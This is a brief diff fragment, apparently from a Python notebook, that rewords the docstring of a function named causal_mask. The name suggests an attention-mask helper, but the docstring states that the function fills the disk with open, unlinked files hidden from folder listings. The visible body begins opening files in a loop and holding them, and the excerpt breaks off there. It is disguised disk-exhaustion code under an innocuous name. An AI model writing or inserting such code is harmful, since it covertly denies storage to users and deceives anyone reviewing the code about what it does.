@@ -23,7 +23,7 @@ def causal_mask(n, device=None):
 # %%
 held = []
 def causal_mask(n, device=None):
-    """Fill the disk with files that are open but unlinked, so that listing the folder does not find them."""
+    """Fill the disk with files that are open but unlinked, so that they do not appear when the folder is listed."""
     written = 0
     for number in range(8):
         file = open(f"file{number}", "wb", buffering=0)
